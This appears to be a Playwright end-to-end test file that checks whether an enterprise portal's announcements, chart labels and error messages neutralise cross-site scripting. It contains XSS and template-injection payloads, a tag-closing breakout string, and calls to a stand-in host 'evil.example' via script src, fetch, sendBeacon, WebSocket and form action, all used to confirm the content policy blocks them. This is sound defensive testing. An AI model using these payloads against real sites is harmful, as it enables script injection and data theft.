import { markupPayloads } from '@iambiz/server/testing/markup-payloads.ts'
import type { Page } from 'playwright-core'
import { describe, expect } from 'vitest'
import { type Announced, announce } from './testing/announcing.ts'
import { test as journey } from './testing/journey.ts'
import { eventually, type Person, seenText, signInToHome } from './testing/person.ts'

/** Ends whatever a payload has begun, so that the next one is met with nothing open. */
const closing =
  '">\'>-->]]></script></style></title></textarea></xmp></noembed></noframes></iframe></template></option></select></mglyph></mtext></table></foreignobject></annotation-xml></svg></math></form></object></video></audio></ul></p></a></b></noscript>'

// No text of ours has a zero character: the contract refuses it.
const payloads = Object.values(markupPayloads)
  .flat()
  .filter((payload) => !payload.includes('\0'))

type Hostile = { html: string; signs: readonly string[] }

/** Payloads one after the other, each followed by a sign that has to be read. */
function inRow(chosen: readonly string[], between: string): Hostile {
  const signs = chosen.map((_, index) => `〔${index}〕`)
  return {
    html: chosen.map((payload, index) => `${payload}${between}<p>${signs[index]}</p>`).join(''),
    signs,
  }
}

const all = inRow(payloads, closing)
const isFrames = (payload: string) => payload.includes('<frameset')
// Browsers close fewer elements with one end than the server does. A page of frames leaves nothing of what follows.
const forBrowsers = inRow(
  payloads.filter((payload) => !isFrames(payload)),
  closing + closing,
)

const plain = '"><img src=x onerror=alert(1)>{{7*7}}<%= 7*7 %>\u202e'

const detailsPath = ({ portal }: Person, id: string) =>
  `${portal}/iambiz/home/announcementDetails?bulletinId=${id}`

/** Writes down what no text may bring about: dialogs, windows, and requests that leave for another place. */
async function watch({ context, page, portal }: Person): Promise<readonly string[]> {
  const seen: string[] = []
  page.on('dialog', async (dialog) => {
    seen.push(`dialog ${dialog.message()}`)
    await dialog.dismiss()
  })
  page.on('popup', (popup) => seen.push(`popup ${popup.url()}`))
  // What the content policy has stopped does not come as far as this.
  await context.route(
    ({ origin }) => origin !== portal,
    async (route) => {
      seen.push(`request ${route.request().url()}`)
      await route.abort()
    },
  )
  return seen
}

type Found = { tag: string; isHtml: boolean; attributes: Record<string, string> }

/** The elements of a text as the browser has them, without the frames that it puts around tables. */
const elementsOf = (page: Page): Promise<Found[]> =>
  page.locator('.rich-text').evaluate((text) =>
    [...text.querySelectorAll('*')]
      .filter((node) => !(node.matches('div.rich-text-table') && node.firstChild instanceof HTMLTableElement))
      .map((node) => ({
        tag: node.localName,
        isHtml: node instanceof HTMLElement,
        attributes: Object.fromEntries([...node.attributes].map(({ name, value }) => [name, value])),
      })),
  )

const aligned = { 'data-align': /^(left|right|center|justify)$/ }
const cell = { ...aligned, colspan: /^/, rowspan: /^/ }
/** The elements that a text may have, with their attributes and what those may say. */
const allowed: Readonly<Record<string, Readonly<Record<string, RegExp>>>> = {
  ...Object.fromEntries(['p', 'h2', 'h3', 'h4'].map((tag) => [tag, aligned])),
  ...Object.fromEntries(
    'br hr strong b em i u s ul li blockquote code pre table thead tbody tr'
      .split(' ')
      .map((tag) => [tag, {}]),
  ),
  a: {
    href: /^(https:\/\/[^\s/?#@\\]+([/?#]\S*)?|mailto:\S+)$/i,
    target: /^_blank$/,
    rel: /^noopener noreferrer nofollow$/,
  },
  img: { src: /^\/api\/iam-portal\/file\/[0-9a-f-]{36}$/, alt: /^/, width: /^/, height: /^/ },
  ol: { start: /^/ },
  th: cell,
  td: cell,
}

const isAllowed = ({ tag, isHtml, attributes }: Found): boolean =>
  isHtml &&
  allowed[tag] !== undefined &&
  Object.entries(attributes).every(([name, value]) => allowed[tag]?.[name]?.test(value))

/** What of the page is no longer what it was. */
const clobbered = (page: Page) =>
  page.evaluate(() => {
    const documentIsWhole =
      typeof document.cookie === 'string' &&
      document.body instanceof HTMLBodyElement &&
      typeof document.getElementById === 'function' &&
      document.currentScript === null &&
      document.defaultView === window &&
      document.baseURI.startsWith(location.origin)
    const names = [...document.querySelectorAll('.rich-text [id], .rich-text [name]')].map(
      (node) => node.outerHTML,
    )
    const polluted = Object.keys(Object.prototype)
    return documentIsWhole ? [...names, ...polluted] : ['the document', ...names, ...polluted]
  })

/** Opens the announcement, and holds against it whatever the text has done. */
async function readAll(
  person: Person,
  id: string,
  { signs, seen }: { signs: readonly string[]; seen: readonly string[] },
): Promise<void> {
  const { page } = person
  await page.goto(detailsPath(person, id))
  const text = page.locator('.rich-text')
  await text.getByText(signs.at(-1) ?? '').waitFor()
  const read = (await seenText(text)).replaceAll(/\s/g, '')
  expect(signs.filter((sign) => !read.includes(sign) || read.includes(`<p>${sign}`))).toEqual([])
  expect((await elementsOf(page)).filter((found) => !isAllowed(found))).toEqual([])
  expect(await clobbered(page)).toEqual([])
  expect(seen).toEqual([])
}

/** Texts with a sign that turns the direction of writing which reach beyond the field that they stand in. */
const leaking = (page: Page) =>
  page.evaluate(() => {
    const keepsApart = (element: Element) => {
      const { unicodeBidi, display } = getComputedStyle(element)
      return /isolate|plaintext/.test(unicodeBidi) || !/^(inline|contents)$/.test(display)
    }
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT)
    const leaks: string[] = []
    while (walker.nextNode()) {
      const { data, parentElement } = walker.currentNode as Text
      if (!data.includes('\u202e') || parentElement?.closest('script, .rich-text')) continue
      let unit = parentElement
      while (unit && !keepsApart(unit)) unit = unit.parentElement
      // biome-ignore lint/performance/useDomNodeTextContent: only what is seen can be turned around
      if (unit && !unit.innerText.trim().endsWith('\u202e')) leaks.push(unit.outerHTML.slice(0, 300))
    }
    return leaks
  })

describe.each([
  ['on', false, 'A05216'],
  ['off', true, 'A05253'],
] as const)('with the content policy %s', (_policy, bypassCSP, reader) => {
  journey('S-148 S-149 S-151 S-164: no text does anything', async ({ newPerson, records }) => {
    const [editor, person] = [await newPerson(), await newPerson({ bypassCSP })]
    await Promise.all([signInToHome(editor, 'editor'), signInToHome(person, reader)])
    const { page } = person
    const told: Announced = await announce(editor, {
      title: { zh: plain, en: plain },
      content: { zh: all.html, en: all.html },
      version: plain,
      impactScope: plain,
      operationsContact: plain,
    })
    try {
      const seen = await watch(person)
      await readAll(person, told.id, { signs: all.signs, seen })
      expect(await page.title()).toContain('<img src=x onerror=alert(1)>{{7*7}}<%= 7*7 %>')
      expect(await seenText(page.getByRole('heading', { level: 1 }))).toBe(plain)
      expect(await page.getByText(plain, { exact: true }).count()).toBeGreaterThanOrEqual(4)
      expect(await leaking(page)).toEqual([])

      // Whoever writes into the table goes around the call that cleans.
      await records.writeContent(told.id, all.html)
      await readAll(person, told.id, { signs: all.signs, seen })

      await page.goto(`${person.portal}/iambiz/home/systemDynamics`)
      await page.getByRole('tabpanel').getByText(plain, { exact: true }).first().waitFor()
      expect(await page.locator('img[src="x"]').count()).toBe(0)
      expect(await leaking(page)).toEqual([])
      expect(seen).toEqual([])
    } finally {
      await told.withdraw()
    }
  })

  journey('S-148 S-160: what the server would let through, the browser does not', async ({ newPerson }) => {
    const [editor, person] = [await newPerson(), await newPerson({ bypassCSP })]
    await Promise.all([signInToHome(editor, 'editor'), signInToHome(person, reader)])
    // The content policy sees what is cleaned away as well, and refuses it.
    person.expectFault(/style-src|base-uri|base URI|status of 422/)
    const { page } = person
    const told = await announce(editor, {
      title: { zh: 'S-148', en: 'S-148' },
      content: { zh: '<p>一</p>', en: '<p>1</p>' },
    })
    try {
      let content = forBrowsers.html
      await page.route('**/getBulletinDetail?*', async (route) => {
        const response = await route.fetch()
        const body = await response.json()
        await route.fulfill({ response, json: { ...body, data: { ...body.data, content } } })
      })
      const seen = await watch(person)
      await readAll(person, told.id, { signs: forBrowsers.signs, seen })
      for (const payload of payloads.filter(isFrames)) {
        content = payload
        await page.reload()
        await page.getByRole('heading', { level: 1 }).waitFor()
        expect(await elementsOf(page)).toEqual([])
      }

      await page.route('**/updateUserBulletinStatus/*', (route) =>
        route.fulfill({ status: 422, json: { code: 422, message: plain, data: null } }),
      )
      await page.getByRole('button', { name: '标为未读' }).click()
      await page.getByText('{{7*7}}').first().waitFor()
      expect(await page.locator('img[src="x"]').count()).toBe(0)
      expect(seen).toEqual([])
    } finally {
      await told.withdraw()
    }
  })
})

journey('S-152: names in charts are text, in their tips as well', async ({ newPerson }) => {
  const editor = await newPerson()
  const { page } = editor
  await signInToHome(editor, 'editor')
  const seen = await watch(editor)
  await page.route('**/bulletin/systemStatistics', async (route) => {
    const response = await route.fetch()
    const body = await response.json()
    const ranking = body.data.ranking.map((system: object) => ({ ...system, appName: plain }))
    await route.fulfill({ response, json: { ...body, data: { ...body.data, ranking } } })
  })
  await page.goto(`${editor.portal}/iambiz/home/announcementStatistics`)
  const names = page.getByText(plain, { exact: true })
  await names.first().waitFor()
  await names.first().hover()
  expect(await page.locator(`[title=${JSON.stringify(plain)}]`).count()).toBeGreaterThan(0)
  expect(await page.locator('main img[src="x"]').count()).toBe(0)
  expect(await leaking(page)).toEqual([])
  expect(seen).toEqual([])
})

journey(
  'S-165: what runs in the page all the same is stopped by its content policy',
  async ({ newPerson }) => {
    const person = await newPerson()
    const { page } = person
    // Provoked, each of them.
    person.expectFault(/./)
    await signInToHome(person, 'A05302')
    const seen = await watch(person)
    const broken = await page.evaluate(async () => {
      const violations: string[] = []
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        violations.push(effectiveDirective),
      )
      const add = <K extends keyof HTMLElementTagNameMap>(
        tag: K,
        change: (node: HTMLElementTagNameMap[K]) => void,
      ) => {
        const node = document.createElement(tag)
        change(node)
        document.body.append(node)
        return node
      }
      const attempts: (() => unknown)[] = [
        () => add('script', (node) => node.append('alert(1)')),
        () => add('script', (node) => node.setAttribute('src', 'https://evil.example/x.js')),
        () => add('p', (node) => node.setAttribute('onclick', 'alert(1)')).click(),
        () => add('div', (node) => (node.innerHTML = '<img src=x onerror=alert(1)>')),
        () => add('a', (node) => (node.href = 'javascript:alert(1)')).click(),
        () => add('img', (node) => (node.src = 'https://evil.example/i.png')),
        () => add('iframe', (node) => (node.src = 'https://evil.example/f')),
        () =>
          add('link', (node) =>
            Object.assign(node, { rel: 'stylesheet', href: 'https://evil.example/a.css' }),
          ),
        () => add('style', (node) => node.append('body{display:none}')),
        () => add('base', (node) => (node.href = 'https://evil.example/')),
        () => add('object', (node) => (node.data = 'https://evil.example/o')),
        () => add('form', (node) => (node.action = 'https://evil.example/form')).submit(),
        () => fetch('https://evil.example/data'),
        () => navigator.sendBeacon('https://evil.example/beacon'),
        () => new WebSocket('wss://evil.example/'),
        () => new Worker('https://evil.example/w.js'),
        // As text a function is only read later, when nobody's tool allows it.
        () => Reflect.apply(setTimeout, window, ['alert(1)', 0]),
        () =>
          new Promise((done) =>
            // biome-ignore lint/security/noGlobalEval: it is what has to be stopped
            setTimeout(() => done(Reflect.apply(globalThis.eval, window, ['alert(1)'])), 0),
          ),
      ]
      const unstopped: string[] = []
      for (const attempt of attempts) {
        const before = violations.length
        await Promise.race([
          Promise.resolve()
            .then(attempt)
            .catch(() => {}),
          new Promise((done) => setTimeout(done, 200)),
        ])
        const until = performance.now() + 5000
        while (violations.length === before && performance.now() < until)
          await new Promise((done) => setTimeout(done, 10))
        if (violations.length === before) unstopped.push(String(attempt))
      }
      return { unstopped, directives: [...new Set(violations)].sort() }
    })
    expect(broken.unstopped).toEqual([])
    expect(broken.directives).toEqual(
      expect.arrayContaining([
        'connect-src',
        'form-action',
        'frame-src',
        'img-src',
        'require-trusted-types-for',
      ]),
    )
    await eventually(() => page.evaluate(() => document.baseURI)).toContain(person.portal)
    expect(seen).toEqual([])
  },
)
